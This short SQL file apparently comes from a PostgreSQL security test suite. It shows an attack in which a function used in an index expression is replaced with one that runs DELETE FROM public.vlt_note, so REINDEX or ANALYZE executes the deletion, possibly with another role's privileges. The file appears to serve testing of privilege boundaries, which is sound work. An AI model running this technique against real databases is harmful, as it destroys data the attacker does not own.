-- Writes by the expression of an index that is built again.
-- wants: write
-- attack:
CREATE FUNCTION w(text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$BEGIN RETURN $1; END$$;
CREATE INDEX own_v ON mallory_own (w(v));
CREATE OR REPLACE FUNCTION w(text) RETURNS text LANGUAGE plpgsql AS $$BEGIN
  DELETE FROM public.vlt_note; RETURN $1; END$$;
REINDEX TABLE mallory_own;
ANALYZE mallory_own;
